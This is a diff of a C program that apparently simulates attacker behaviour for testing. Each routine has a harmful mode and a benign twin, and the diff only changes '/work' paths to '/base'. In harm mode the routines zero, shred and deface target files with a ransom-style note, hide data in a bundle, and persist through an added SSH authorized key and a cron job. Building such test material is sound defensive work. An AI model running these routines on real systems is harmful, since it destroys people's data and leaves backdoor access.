@@ -8,7 +8,7 @@ static void late_zeros(void) {
     static char zeros[MOST_KEPT];
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/reserved-%d", i);
+        snprintf(own, sizeof own, "/base/reserved-%d", i);
         FILE *out = fopen(harm ? files[i].path : own, harm ? "r+b" : "wb");
         for (off_t done = 0; done < files[i].size; done += sizeof zeros) {
             fwrite(zeros, 1, sizeof zeros, out);
@@ -36,7 +36,7 @@ static void late_partial(void) {
 
 // T1560: everything goes into one unreadable bundle. The twin writes a readable one.
 static void late_bundle(void) {
-    FILE *out = fopen(harm ? "/work/.cache.dat" : "/work/backup.tar", "wb");
+    FILE *out = fopen(harm ? "/base/.cache.dat" : "/base/backup.tar", "wb");
     for (int i = 0; i < count; i++) {
         size_t length;
         char *data = slurp(files[i].path, &length);
@@ -60,7 +60,7 @@ static void late_survey(void) {
     for (int i = 0; i < (harm ? 20 : 4); i++) {
         char path[96];
         struct stat status;
-        snprintf(path, sizeof path, "/work/%s", harm ? things[i] : settings[i]);
+        snprintf(path, sizeof path, "/base/%s", harm ? things[i] : settings[i]);
         found += stat(path, &status) == 0;
     }
     say("%d found", found);
@@ -82,7 +82,7 @@ static void late_rights(void) {
 static void late_links(void) {
     for (int i = 0; i < (harm ? 600 : 5); i++) {
         char name[64];
-        snprintf(name, sizeof name, "/work/name-%d", i);
+        snprintf(name, sizeof name, "/base/name-%d", i);
         symlink("data/a.txt", name);
     }
     say("linked");
@@ -93,8 +93,8 @@ static void late_hide(void) {
     for (int i = 0; i < count; i++) {
         char own[64];
         char to[64];
-        snprintf(own, sizeof own, "/work/state-%d", i);
-        snprintf(to, sizeof to, "/work/.state-%d", i);
+        snprintf(own, sizeof own, "/base/state-%d", i);
+        snprintf(to, sizeof to, "/base/.state-%d", i);
         if (!harm) {
             spit(own, "wb", "state\n", 6);
         }
@@ -108,7 +108,7 @@ static void late_deface(void) {
     static const char page[] = "<h1>All your files are somewhere else now. Write to the address below.</h1>\n";
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/page-%d.html", i);
+        snprintf(own, sizeof own, "/base/page-%d.html", i);
         spit(harm ? files[i].path : own, "wb", page, sizeof page - 1);
         say("page %d", i);
     }
@@ -152,16 +152,16 @@ static void late_burn(void) {
 
 // T1098.004 and T1053.003: keeps a way in. The twin keeps its notes.
 static void late_persist(void) {
-    const char *folder = harm ? "/work/home/.ssh" : "/work/home/notes";
-    mkdir("/work/home", 0700);
+    const char *folder = harm ? "/base/home/.ssh" : "/base/home/notes";
+    mkdir("/base/home", 0700);
     mkdir(folder, 0700);
     const char *line = harm ? "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI someone@elsewhere\n" : "- the list of keys is in the safe\n";
     char path[MOST_PATH];
     snprintf(path, sizeof path, "%s/%s", folder, harm ? "authorized_keys" : "keys.txt");
     spit(path, "ab", line, strlen(line));
-    mkdir("/work/etc", 0700);
-    mkdir(harm ? "/work/etc/cron.d" : "/work/etc/app.d", 0700);
-    spit(harm ? "/work/etc/cron.d/job" : "/work/etc/app.d/job", "wb", "* * * * * start\n", 16);
+    mkdir("/base/etc", 0700);
+    mkdir(harm ? "/base/etc/cron.d" : "/base/etc/app.d", 0700);
+    spit(harm ? "/base/etc/cron.d/job" : "/base/etc/app.d/job", "wb", "* * * * * start\n", 16);
     say("kept");
 }
 
@@ -170,7 +170,7 @@ static void late_shred(void) {
     char noise[MOST_KEPT];
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/secret-%d", i);
+        snprintf(own, sizeof own, "/base/secret-%d", i);
         const char *path = harm ? files[i].path : own;
         for (int pass = 0; pass < 3; pass++) {
             for (size_t j = 0; j < sizeof noise; j++) {
